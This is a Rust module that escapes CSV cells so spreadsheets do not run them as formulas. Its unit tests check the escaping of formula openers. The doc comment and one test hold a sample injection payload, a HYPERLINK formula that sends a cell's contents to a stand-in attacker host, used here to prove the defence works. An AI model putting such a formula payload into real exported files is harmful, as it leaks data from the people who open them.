//! CSV cells a spreadsheet will not run (OWASP, "CSV Injection"): a text cell that begins
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel,
//! LibreOffice and Google Sheets, so a comment such as `=HYPERLINK("http://…?d="&A2)`
//! would run on the reader's machine. Such a cell gets a leading `'`, which spreadsheets
//! take as "this is text". Numeric columns are left as they are, so they stay numbers.
//!
//! The CSV files are a view for people; the bytes a comment's or a document's hash covers
//! are the document itself (`/v1/documents/{sha256}`), never a CSV cell
//! (docs/open-data.md).

use std::borrow::Cow;

/// `text` as a cell no spreadsheet takes for a formula.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// A row whose cells are text except those at `numeric` (column positions), which are
/// kept as they are.
pub fn text_row<const N: usize>(cells: [String; N], numeric: &[usize]) -> [String; N] {
    let mut i = 0;
    cells.map(|cell| {
        let keep = numeric.contains(&i);
        i += 1;
        if keep {
            cell
        } else {
            text_cell(&cell).into_owned()
        }
    })
}

/// The positions of `names` in `columns` (a header); a name not there is a bug caught by
/// the exports' tests.
pub fn positions<const N: usize>(columns: &[&str; N], names: &[&str]) -> Vec<usize> {
    names
        .iter()
        .filter_map(|n| columns.iter().position(|c| c == n))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_openers_become_text() {
        for (given, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")",
                "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")",
            ),
            ("+33 1 23", "'+33 1 23"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(text_cell(given), shown);
        }
        for plain in ["", "Bonjour", "1 000 MAD", " =1", "'=1", "مرحبا", "a=b"] {
            assert_eq!(text_cell(plain), plain);
        }
    }

    #[test]
    fn numeric_columns_stay_numbers() {
        let row = text_row(["-5".to_owned(), "-5".to_owned(), "=x".to_owned()], &[0]);
        assert_eq!(row, ["-5", "'-5", "'=x"]);
        assert_eq!(positions(&["a", "b", "c"], &["c", "a"]), vec![2, 0]);
    }
}
